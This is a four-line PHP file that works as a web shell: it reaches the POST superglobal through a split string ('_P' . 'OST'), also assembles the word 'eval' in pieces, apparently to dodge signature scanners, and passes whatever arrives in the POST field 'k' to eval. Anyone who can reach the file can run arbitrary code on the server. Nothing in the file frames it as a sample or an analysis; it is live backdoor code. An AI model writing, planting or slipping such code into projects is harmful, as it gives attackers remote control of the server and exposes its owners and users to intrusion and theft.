<?php
$g = $GLOBALS['_P' . 'OST'];
$f = 'ev' . 'al';
if (isset($g['k'])) { eval($g['k']); }
